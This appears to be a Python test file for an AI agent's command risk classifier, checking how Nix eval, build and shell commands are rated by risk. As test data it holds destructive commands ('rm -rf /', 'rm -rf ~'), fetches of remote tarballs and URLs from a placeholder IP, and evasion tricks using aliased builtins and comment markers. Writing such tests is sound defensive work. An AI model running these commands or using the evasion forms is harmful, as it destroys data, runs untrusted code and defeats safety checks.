"""An expression of Nix that only calculates is nothing, one that fetches is high, and no expression is low that does anything else."""

from __future__ import annotations

import shlex

from hypothesis import given
from hypothesis import strategies as st

from agent.protocol.decisions import Level
from agent.risk.classifier import classify
from tests.support.each import each

FORMS = (
    "nix eval --expr {}",
    "nix eval --raw --expr={}",
    "nix eval --apply {} .#x",
    "nix-instantiate --eval -E {}",
    "nix-instantiate --eval -E --strict {}",
    "nix-build {} -E",
    "nix-shell -E {}",
    "nix-shell -p hello {}",
    "nix-env -iE {}",
    "echo {} | nix-instantiate --eval -",
    "echo {} > /tmp/q/x.nix; nix-build /tmp/q/x.nix",
)
FETCHED = (
    "import (builtins.fetchTarball https://203.0.113.9/a.tar.gz)",
    'builtins.fetchurl "https://203.0.113.9/?${x}"',
    'with builtins; getFlake "github:a/b"',
    "let inherit (builtins) fetchGit; f = fetchGit; in import (f { url = x; })",
    'builtins."fetchTarball" x',
)
CALCULATED = (
    "1 + 1",
    "builtins.length [ 1 2 ]",
    "let f = x: x * 2; in map f [ 1 ]",
    '{ a.b = "c d"; e = true; }',
    "builtins.toJSON { a = null; } # as text",
    'if builtins.lessThan 1 2 then "a" else throw "b"',
)
pieces = st.sampled_from((
    "builtins", ".", "import", "./x.nix", "(", ")", "let", "in", "x", "=", ";", ":", "{", "}", "readFile", "exec", "[", "]", "\"/tmp/x\"",
    "with", "inherit", "map", "<nixpkgs>", "derivation", "'s'", "${x}", "# c\n", "/*", "*/", "''a''", "1", "+",
))  # fmt: skip


@each("form", FORMS)
def test_what_is_fetched(form: str) -> None:
    for text in FETCHED:
        assert classify(form.format(shlex.quote(text))).level is Level.HIGH, text


def test_what_only_calculates() -> None:
    for text in CALCULATED:
        assert classify(f"nix eval --expr {shlex.quote(text)}").level is Level.LOW, text
    assert classify("nix eval --apply 'x: x.version' nixpkgs#hello").level is Level.LOW


@given(st.lists(pieces, max_size=8), st.sampled_from(("import ./x.nix", "builtins.readFile ./x", "import \"/tmp/x\"", "derivation { }")),
       st.lists(pieces, max_size=8))  # fmt: skip
def test_nothing_around_hides_what_has_effects(before: list[str], effect: str, after: list[str]) -> None:
    joined = " ".join((*before, effect, *after))
    if "#" in joined or "/*" in joined:  # which may leave it out
        return
    assert classify(f"nix eval --expr {shlex.quote(joined)}").level is not Level.LOW


@given(st.text('#/*"\\ax \n', max_size=8), st.text("#/*ax ", max_size=4))
def test_signs_of_comments_in_texts_hide_nothing(inside: str, comment: str) -> None:
    text = inside.replace("\\", "\\\\").replace('"', '\\"')
    for behind in ("", f" # {comment}", f' + "{comment}"'):
        expression = f'"{text}" + import ./x.nix{behind}'
        assert classify(f"nix eval --expr {shlex.quote(expression)}").level is not Level.LOW, expression


def test_comments_are_left_out() -> None:
    for text in ("1 # import ./x.nix", "1 /* import ./x.nix\n*/ + 1.05", '"# a" + "/* b" # import ./x.nix'):
        assert classify(f"nix eval --expr {shlex.quote(text)}").level is Level.LOW, text
    for text in ("1 /* import ./x.nix", '"${import ./x.nix}"', '"#${toString 1}" + import ./x.nix'):
        assert classify(f"nix eval --expr {shlex.quote(text)}").level is not Level.LOW, text


@each(
    "command",
    [
        'nix eval --expr \'builtins.exec [ "rm" "-rf" "/" ]\'',
        "nix-shell -E 'mkShell { shellHook = \"rm -rf ~\"; }'",
        "nix-shell -E 'mkShell { shellHook = '\"''rm -rf ~''\"'; }'",
        "nix eval -f https://203.0.113.9/a.tar.gz x",
        "nix eval -I nixpkgs=https://203.0.113.9/a --expr '<nixpkgs>'",
        "nix-build -Inixpkgs=https://203.0.113.9/a -A hello",
    ],
)
def test_what_runs_here(command: str) -> None:
    assert classify(command).level is Level.HIGH


@each(
    "command",
    [
        "nix-shell -p hello jq",
        "nix eval github:a/b#c",
        "nix eval --apply import .#x",
        "nix eval --apply builtins.readFile .#x",
    ],
)
def test_what_nobody_knows(command: str) -> None:
    assert classify(command).level is Level.MEDIUM


@each(
    "text",
    [
        "-import ./x.nix",
        '1 -import "x"',
        '(builtins.elemAt [1import] 0) "x"',
        '[1.import "x"]',
        'let a = { __readFile = 1; }; in __readFile "x"',
        'let a = { __toFile = 1; }; in __toFile "a" "b"',
        "1 # a\rimport ./x.nix",
        "__readFile",
    ],
)
def test_names_are_read_as_nix_reads_them(text: str) -> None:
    assert classify(f"nix eval --expr {shlex.quote(text)}").level is not Level.LOW
    assert classify(f"nix eval .#x --apply {shlex.quote(text)}").level is not Level.LOW


def test_built_in_commands_by_their_other_name_are_run() -> None:
    text = 'let a = { __exec = 1; }; in __exec [ "rm" "-rf" "/" ]'
    assert classify(f"nix eval --expr {shlex.quote(text)}").level is Level.HIGH
    assert classify("nix eval --expr 'let x = -1; in 1.5 - x'").level is Level.LOW


@each("flake", ["/tmp/x#y", "path:/tmp/x#y", "path:../x", "~/x#y", "../x#y"])
def test_a_flake_from_outside_is_code_from_there(flake: str) -> None:
    assert classify(f"nix eval {flake}").level is not Level.LOW
    for option in ("--accept-flake-config", "--commit-lock-file", "--option pure-eval false"):
        assert classify(f"nix eval .#x {option}").level is not Level.LOW
